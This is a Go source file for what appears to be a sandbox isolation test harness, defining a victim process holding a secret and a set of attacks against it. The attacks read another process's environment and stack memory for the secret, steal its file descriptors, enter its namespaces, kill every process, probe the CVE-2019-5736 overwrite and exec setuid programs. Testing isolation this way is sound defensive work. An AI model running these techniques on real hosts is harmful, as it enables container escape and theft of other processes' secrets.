//go:build linux

package main

import (
	"bufio"
	"fmt"
	"os"
	"runtime"
	"strconv"
	"strings"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// victim is a process of the host with a secret in its environment and memory
// and the secret's file open. It ends with its standard input.
func victim() {
	fmt.Println("ready")
	for {
		if _, err := os.Stdin.Read(make([]byte, 1)); err != nil {
			os.Exit(0)
		}
	}
}

// processes are attacks on the host's processes.
func processes() map[string]attack {
	return map[string]attack{
		"see":     func(g ground) (string, error) { return read(fmt.Sprintf("/proc/%d/cmdline", g.PID)) },
		"environ": func(g ground) (string, error) { return read(fmt.Sprintf("/proc/%d/environ", g.PID)) },
		"kill":    func(g ground) (string, error) { return "sent", unix.Kill(g.PID, unix.SIGKILL) },
		"kill-all": func(ground) (string, error) {
			if err := agentIsFirst(); err != nil {
				return "", err
			}
			return "sent", unix.Kill(-1, unix.SIGKILL)
		},
		"ptrace":    func(g ground) (string, error) { return trace(g.PID) },
		"read-mem":  func(g ground) (string, error) { return readMemory(g.PID) },
		"limit":     func(g ground) (string, error) { return "limited", limitFiles(g.PID) },
		"renice":    func(g ground) (string, error) { return "reniced", unix.Setpriority(unix.PRIO_PROCESS, g.PID, 15) },
		"steal-fd":  stealFD,
		"nsenter":   enterMount,
		"net-enter": enterNet,
		"exe-write": func(g ground) (string, error) { return programWritable(fmt.Sprintf("/proc/%d/exe", g.PID)) },
		"shm-sysv":  sharedMemory,
		"shm-file":  func(g ground) (string, error) { return read("/dev/shm/" + g.ShmFile) },
	}
}

func trace(pid int) (string, error) {
	runtime.LockOSThread()
	if err := unix.PtraceAttach(pid); err != nil {
		return "", err
	}
	var status unix.WaitStatus
	unix.Wait4(pid, &status, unix.WALL, nil)
	return "attached", unix.PtraceDetach(pid)
}

// readMemory looks through a process's stack, where its environment lies.
func readMemory(pid int) (string, error) {
	maps, err := os.Open(fmt.Sprintf("/proc/%d/maps", pid))
	if err != nil {
		return "", err
	}
	defer maps.Close()
	for lines := bufio.NewScanner(maps); lines.Scan(); {
		f := strings.Fields(lines.Text())
		if f[len(f)-1] != "[stack]" {
			continue
		}
		from, to, _ := strings.Cut(f[0], "-")
		start, _ := strconv.ParseUint(from, 16, 64)
		end, _ := strconv.ParseUint(to, 16, 64)
		b := make([]byte, min(end-start, 1<<20))
		local := []unix.Iovec{{Base: &b[0]}}
		local[0].SetLen(len(b))
		remote := []unix.RemoteIovec{{Base: uintptr(end - uint64(len(b))), Len: len(b)}}
		n, err := unix.ProcessVMReadv(pid, local, remote, 0)
		if err != nil {
			return "", err
		}
		if at := strings.Index(string(b[:n]), "SECRET="); at >= 0 {
			return string(b[at:min(at+100, n)]), nil
		}
	}
	return "", errFailed
}

func limitFiles(pid int) error {
	return unix.Prlimit(pid, unix.RLIMIT_NOFILE, &unix.Rlimit{Cur: 7, Max: 7}, nil)
}

// stealFD takes a descriptor out of another process.
func stealFD(g ground) (string, error) {
	pidfd, err := unix.PidfdOpen(g.PID, 0)
	if err != nil {
		return "", err
	}
	fd, err := unix.PidfdGetfd(pidfd, 3, 0)
	if err != nil {
		return "", err
	}
	b := make([]byte, 4096)
	n, err := unix.Pread(fd, b, 0)
	return string(b[:max(n, 0)]), err
}

func enter(pid int, kind string, flag int) error {
	runtime.LockOSThread()
	if err := unix.Unshare(unix.CLONE_FS); err != nil {
		return err
	}
	fd, err := unix.Open(fmt.Sprintf("/proc/%d/ns/%s", pid, kind), unix.O_RDONLY, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	return unix.Setns(fd, flag)
}

// enterMount goes into the host's mounts, as nsenter does.
func enterMount(g ground) (string, error) {
	if err := enter(g.PID, "mnt", unix.CLONE_NEWNS); err != nil {
		return "", err
	}
	fd, err := unix.Open(g.Secret, unix.O_RDONLY, 0)
	if err != nil {
		return "", err
	}
	b := make([]byte, 4096)
	n, err := unix.Read(fd, b)
	return string(b[:max(n, 0)]), err
}

func enterNet(g ground) (string, error) {
	if err := enter(g.PID, "net", unix.CLONE_NEWNET); err != nil {
		return "", err
	}
	return connect(unix.AF_INET, unix.SOCK_STREAM, &unix.SockaddrInet4{Port: g.TCP, Addr: [4]byte{127, 0, 0, 1}}, g.Marker)
}

// programWritable asks for a program that runs for writing (CVE-2019-5736).
// "Text file busy" comes after the file's permission: a second look, when the
// program has ended, would succeed, if the file system may be written to.
func programWritable(path string) (string, error) {
	err := opened(path, unix.O_WRONLY)
	if err != unix.ETXTBSY {
		return "open", err
	}
	var fs unix.Statfs_t
	if err := unix.Statfs(path, &fs); err != nil {
		return "", err
	}
	if fs.Flags&unix.ST_RDONLY != 0 {
		return "", unix.EROFS
	}
	return "busy", nil
}

func sharedMemory(g ground) (string, error) {
	id, err := unix.SysvShmGet(g.ShmKey, 0, 0)
	if err != nil {
		return "", err
	}
	b, err := unix.SysvShmAttach(id, 0, unix.SHM_RDONLY)
	if err != nil {
		return "", err
	}
	defer unix.SysvShmDetach(b)
	return string(b[:64]), nil
}

// gain runs a program that should give more rights, and it tells what it got.
func gain(path string) attack {
	return func(ground) (string, error) {
		if os.Args[0] == path {
			status, err := read("/proc/self/status")
			if os.Geteuid() != 0 && strings.Contains(status, "CapEff:\t0000000000000000") {
				err = unix.EPERM
			}
			return fmt.Sprintf("euid %d", os.Geteuid()), err
		}
		if _, err := os.Stat(path); err != nil {
			return "", err
		}
		return "", unix.Exec(path, append([]string{path}, os.Args[1:]...), os.Environ())
	}
}

// agentIsFirst says that process 1 is an agent. With a wall taken away it
// might be the host's own: what is done to it must never be done to that.
func agentIsFirst() error {
	name, err := read("/proc/1/cmdline")
	if err != nil {
		return err
	}
	if !strings.HasPrefix(name, "/glovebox/agent\x00") {
		return fmt.Errorf("process 1 is %q: not attacked", name)
	}
	return nil
}

// patience is how long an attack waits for its effect.
const patience = 2 * time.Second

// pointer is a Go value for a system call.
func pointer[T any](v *T) uintptr { return uintptr(unsafe.Pointer(v)) }

// ptr is where b lies.
func ptr(b []byte) unsafe.Pointer { return unsafe.Pointer(&b[0]) }
